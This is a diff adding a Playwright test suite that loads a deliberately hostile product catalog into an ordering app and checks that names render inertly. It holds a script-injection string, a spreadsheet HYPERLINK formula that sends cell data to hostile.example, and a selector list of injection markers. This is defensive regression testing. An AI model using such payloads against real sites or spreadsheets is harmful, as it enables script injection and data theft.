@@ -1,0 +1,197 @@
+import type { Page } from "@playwright/test";
+import { HOSTILE } from "../../server/sandbox/catalog/hostile.ts";
+import { expect, test } from "../fixtures/test.ts";
+import { emptyDraft, referenceOf, reviewAndSend } from "../support/desk.ts";
+import { readCatalogAnew } from "../support/readCatalogAnew.ts";
+
+// One desk after the other lists what no service should; afterwards the usual again.
+test.describe.configure({ mode: "default", timeout: 120_000 });
+test.afterAll(async ({ desk }) => {
+  await desk.control("POST", "reset");
+  await readCatalogAnew(desk);
+});
+
+const orderable = HOSTILE.flatMap(({ product }) => product ?? []);
+/** Facts that decide what a sheet offers. */
+const AWKWARD = [
+  "a negative price",
+  "the largest price",
+  "a minimum above the maximum",
+  "a step of zero",
+  "a negative step",
+  "open without bounds",
+  "a currency of markup",
+  "no currency",
+  "200 levels",
+];
+
+/** All that goes wrong in a page while it is looked at: errors, refused scripts, questions, requests to strangers. */
+function troubleOf(page: Page, home: string): string[] {
+  const trouble: string[] = [];
+  page.on("pageerror", (error) => trouble.push(`error: ${error.message}`));
+  page.on("console", (message) => {
+    if (message.type() === "error") trouble.push(`console: ${message.text()}`);
+  });
+  page.on("dialog", (dialog) => {
+    trouble.push(`dialog: ${dialog.message()}`);
+    void dialog.dismiss();
+  });
+  page.on("request", (request) => {
+    const url = new URL(request.url());
+    if (url.protocol.startsWith("http") && url.origin !== home) trouble.push(`request: ${request.url()}`);
+  });
+  return trouble;
+}
+
+/** No text of the service has become an element, and nothing sticks out. */
+async function expectWhole(page: Page): Promise<void> {
+  await expect(page.getByText("This page could not be shown")).toHaveCount(0);
+  const found = await page.evaluate(() => ({
+    ran: "hostile" in window,
+    made: document.querySelectorAll("[onerror], [onfocus], [onclick], img[src='x'], a[href^='javascript']")
+      .length,
+    // Less than nothing is the place kept for a scroll bar.
+    sticksOut: Math.max(0, document.documentElement.scrollWidth - document.documentElement.clientWidth),
+  }));
+  expect(found).toEqual({ ran: false, made: 0, sticksOut: 0 });
+}
+
+// A page is as whole on a phone as on a desk: each half of the products is opened on one of them.
+for (const [width, opened] of [
+  [1_280, AWKWARD.map(idOf)],
+  [375, orderable.map(({ id }) => id)],
+] as const) {
+  test(`hostile products are listed and opened, at ${width} px, and nothing of them runs or leaves its place`, async ({
+    asBuyer: page,
+    desk,
+  }) => {
+    await desk.control("POST", "settings", { catalog: "hostile" });
+    expect(await readCatalogAnew(desk)).toMatchObject({ complete: true });
+    const trouble = troubleOf(page, desk.url);
+    await page.setViewportSize({ width, height: 800 });
+    await page.goto("/catalog?q=hostile");
+    const rows = page
+      .getByRole("main")
+      .getByRole("row")
+      .filter({ has: page.getByRole("link") });
+    await expect(rows.filter({ hasText: "Markup <script>" })).toBeVisible();
+    await expectWhole(page);
+    // Whatever its texts are, a row is as high as any other.
+    const heights = await rows.evaluateAll((all) =>
+      all.map((row) => Math.round(row.getBoundingClientRect().height)),
+    );
+    expect(new Set(heights).size).toBe(1);
+
+    for (const id of opened) {
+      await page.goto(`/catalog?product=${id}`);
+      const sheet = page.getByRole("dialog");
+      await expect(sheet).toContainText(/as of/i);
+      await expect(sheet).toContainText(String(id));
+      await expect(sheet).not.toContainText(/NaN|undefined|Infinity/);
+      await expectWhole(page);
+    }
+    expect(trouble).toEqual([]);
+  });
+}
+
+test("hostile names are bought, and stand as they are in draft, review, order and list", async ({
+  asBuyer: page,
+  desk,
+}) => {
+  const trouble = troubleOf(page, desk.url);
+  await desk.control("POST", "settings", { catalog: "hostile" });
+  expect(await readCatalogAnew(desk)).toMatchObject({ complete: true });
+  await emptyDraft(page);
+  const { version }: { version: number } = await (await page.request.get("/api/orders/draft")).json();
+  const lines = orderable.map(({ id }) => ({ productId: id, amount: "", quantity: "1", countryCode: "DE" }));
+  const draft = { externalOrderCode: "", note: "", purchaseOrder: "", lines };
+  const saved = await page.request.put("/api/orders/draft", {
+    headers: { origin: desk.url },
+    data: { version, draft },
+  });
+  expect(saved.ok()).toBe(true);
+
+  await page.goto("/orders/new");
+  const total = `€${(10 * orderable.length).toFixed(2)}`;
+  await expect(page.getByRole("region", { name: "Totals" })).toContainText(total);
+  await expectWhole(page);
+  await picksInOrder(page);
+  await reviewAndSend(page);
+  const reference = await referenceOf(page);
+  await expect(page.getByText("Completed", { exact: true }).first()).toBeVisible({ timeout: 20_000 });
+  const ordered = page.getByRole("table", { name: "Lines of the order" });
+  await expect(ordered).toContainText(`Markup <script>window.hostile=1</script>`);
+  await expect(ordered).toContainText(`=HYPERLINK("https://hostile.example/?"&A1,"Formula")`);
+  await expect(ordered).toContainText("Product 800006");
+  await expectWhole(page);
+  for (const screen of ["/orders", "/", `/orders?product=${orderable[0]?.id ?? 0}`]) {
+    await page.goto(screen);
+    await expect(page.getByRole("link", { name: reference }).first()).toBeVisible();
+    await expectWhole(page);
+  }
+  expect(trouble).toEqual([]);
+});
+
+/** What follows a name with an override that is never ended stands as it was written: D before E. */
+async function picksInOrder(page: Page): Promise<void> {
+  await page.getByRole("combobox", { name: "Add a product" }).fill("Bidi");
+  const option = page.getByRole("option").filter({ hasText: "Bidi" });
+  await expect(option).toBeVisible();
+  const [first, second] = await option.getByText("DE", { exact: true }).evaluate((element) => {
+    const text = element.firstChild;
+    if (text === null) return [];
+    return [0, 1].map((at) => {
+      const range = document.createRange();
+      range.setStart(text, at);
+      range.setEnd(text, at + 1);
+      return range.getBoundingClientRect().left;
+    });
+  });
+  expect(first).toBeLessThan(second ?? 0);
+  await page.keyboard.press("Escape");
+}
+
+test("what was set aside stands in the settings with a reason", async ({ asAdmin: page, desk }) => {
+  const trouble = troubleOf(page, desk.url);
+  await desk.control("POST", "settings", { catalog: "hostile" });
+  expect(await readCatalogAnew(desk)).toMatchObject({ complete: true });
+  await page.goto("/settings");
+  await page.getByText(/^10 records that could not be read/).click();
+  for (const reason of [
+    "not an object",
+    "no id, or one that is not an integer",
+    "the id -7 is not positive",
+    "Product 800100 stood twice on one page; the later record is shown.",
+  ]) {
+    await expect(page.getByText(reason).first()).toBeVisible();
+  }
+  await expectWhole(page);
+  expect(trouble).toEqual([]);
+});
+
+test("a list that repeats itself is given up with a clear word, and what it holds can be used", async ({
+  asAdmin: page,
+  desk,
+}) => {
+  await desk.control("POST", "settings", { catalog: "repeating" });
+  const pass = await readCatalogAnew(desk);
+  expect(pass).toMatchObject({ complete: false, seen: 100 });
+  await page.goto("/catalog");
+  await expect(page.getByText("This list may be incomplete or old")).toBeVisible();
+  await expect(page.getByText(/Its list may ignore "skip"/)).toBeVisible();
+  await expect(
+    page
+      .getByRole("row")
+      .filter({ has: page.getByRole("link") })
+      .first(),
+  ).toBeVisible();
+  await page.goto("/settings");
+  await expect(page.getByText(/the last reading failed: The service gave the same products/)).toBeVisible();
+});
+
+function idOf(what: string): number {
+  const record = HOSTILE.find((each) => each.what === what)?.record;
+  if (typeof record !== "object" || record === null || !("id" in record))
+    throw new Error(`no record: ${what}`);
+  return Number(record.id);
+}
